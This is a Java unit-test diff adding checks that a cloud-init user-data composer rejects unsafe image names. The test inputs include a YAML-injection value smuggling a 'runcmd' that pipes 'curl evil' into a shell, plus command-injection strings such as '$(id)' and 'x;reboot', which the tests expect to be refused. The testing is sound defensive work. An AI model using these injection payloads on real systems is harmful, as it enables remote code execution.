@@ -16,6 +16,7 @@
 package org.csv2.core.engine;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.util.List;
 import java.util.Map;
@@ -41,11 +42,47 @@ class UserDataBootComposerTest {
   private static final List<VmId> NAMES = List.of(VmId.of("atlas--c1--t1--a"), VmId.of("atlas--c1--t1--b"));
 
   private static Group group(String template) {
+    return group("boot.sh", "text/x-shellscript", template);
+  }
+
+  private static Group group(String name, String mimeType, String template) {
     Group g = Group.of("atlas");
     return new Group(
         g.name(), g.jobDefaults(), g.vmDefaults(),
-        List.of(new UserDataDocument("boot.sh", 0, "text/x-shellscript", template, true)),
+        List.of(new UserDataDocument(name, 0, mimeType, template, true)),
         List.of(), 1.0, Map.of());
+  }
+
+  private static Boot bootOf(String image) {
+    return new Boot(GroupName.of("atlas"), CloudName.of("c1"), FlavorName.of("small"), image, null, 2, 2, null, List.of(), 0, "test");
+  }
+
+  @Test
+  void anImageNameWithANewlineNeverAddsYamlKeysToTheUserData() {
+    // issue 20 item 2: a job's Csv2Image naming an image called "alma9\nruncmd: [...]" added a
+    // top-level runcmd that passed the YAML check
+    Group g = group("worker.yaml", "text/cloud-config", "#cloud-config\nwrite_files:\n  - path: /etc/image\n    content: {{image}}\n");
+    Boot hostile = bootOf("alma9\nruncmd: [[sh, -c, 'curl evil | sh']]");
+    assertThatThrownBy(() -> new UserDataBootComposer("t1").requests(g, ALLOCATION, hostile, FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessageContaining("the image 'alma9\\u000aruncmd")
+        .hasMessageContaining("letters, digits and . _ : / @ + = -")
+        .hasMessageNotContaining("\n");
+    for (String bad : List.of("a b", "x;reboot", "$(id)", "`id`", "a#b", "'q'", "\"q\"", "-rf", "")) {
+      assertThatThrownBy(() -> new UserDataBootComposer("t1").requests(g, ALLOCATION, bootOf(bad), FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
+          .as(bad)
+          .isInstanceOf(IllegalArgumentException.class);
+    }
+    assertThat(new UserDataBootComposer("t1").requests(g, ALLOCATION, bootOf("docker.io/alma:9.4+b1@sha256=x"), FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
+        .singleElement()
+        .satisfies(r -> assertThat(r.userData().text()).contains("content: docker.io/alma:9.4+b1@sha256=x\n"));
+  }
+
+  @Test
+  void anUnsafeImageNameIsFineWhenNoTemplateRendersIt() {
+    assertThat(new UserDataBootComposer("t1").requests(group("#!/bin/sh\necho {{group}}\n"), ALLOCATION, bootOf("Ubuntu 22.04 LTS"), FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
+        .singleElement()
+        .satisfies(r -> assertThat(r.image()).isEqualTo("Ubuntu 22.04 LTS"));
   }
 
   @Test
